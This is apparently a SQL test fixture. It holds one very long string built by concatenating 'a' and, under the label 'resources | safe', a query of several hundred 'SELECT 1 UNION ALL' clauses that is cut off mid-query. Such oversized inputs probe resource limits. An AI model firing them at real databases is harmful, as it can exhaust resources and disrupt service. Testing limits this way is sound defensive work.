|| 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a'

-- resources | safe
SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL 